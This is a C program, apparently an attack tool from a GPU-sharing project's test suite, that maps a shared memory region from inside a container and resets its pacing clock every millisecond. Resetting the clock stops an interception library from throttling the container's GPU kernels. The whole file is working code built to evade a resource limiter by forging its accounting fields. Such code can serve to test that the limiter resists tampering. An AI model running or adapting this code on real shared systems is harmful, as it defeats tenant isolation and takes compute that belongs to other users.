/* Forges the slice's pacing clock from inside a container, so that the interception library
 * stops holding the slice's kernels back: every PERIOD_US (1000) microseconds it sets the
 * region's pacing clock (`virtual_ns`) to 0 and `busy_until_ns` a minute ahead of now (so
 * overlapping work looks charged already). Both are in the region's compute block
 * (docs/region.md: `compute_offset` 512; `virtual_ns` at +0, `busy_until_ns` at +32). The
 * library does not believe a clock more than 120 s ahead, but a clock at 0 only costs it a
 * burst, so reset every millisecond it never holds anything back. The region is a block
 * device the container may map, as the library does.
 *
 *   forge-clock REGION [PERIOD_US]     runs until killed; prints "forging" once mapped */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

enum { COMPUTE_OFFSET = 512, VIRTUAL_NS = 0, BUSY_UNTIL_NS = 32 };

static uint64_t monotonic_ns(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (uint64_t)ts.tv_sec * 1000000000u + (uint64_t)ts.tv_nsec;
}

int main(int argc, char **argv) {
    if (argc < 2) {
        fprintf(stderr, "usage: forge-clock REGION [PERIOD_US]\n");
        return 2;
    }
    long period_us = argc > 2 ? strtol(argv[2], NULL, 10) : 1000;
    int fd = open(argv[1], O_RDWR);
    if (fd < 0) {
        perror("attack: forge-clock: opening the region");
        return 1;
    }
    unsigned char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
    if (page == MAP_FAILED) {
        perror("attack: forge-clock: mapping the region");
        return 1;
    }
    volatile uint64_t *virtual_ns = (volatile uint64_t *)(page + COMPUTE_OFFSET + VIRTUAL_NS);
    volatile uint64_t *busy_until = (volatile uint64_t *)(page + COMPUTE_OFFSET + BUSY_UNTIL_NS);
    printf("forging\n");
    fflush(stdout);
    struct timespec nap = {period_us / 1000000, (period_us % 1000000) * 1000};
    for (;;) {
        *virtual_ns = 0;
        *busy_until = monotonic_ns() + 60ull * 1000000000u;
        nanosleep(&nap, NULL);
    }
}
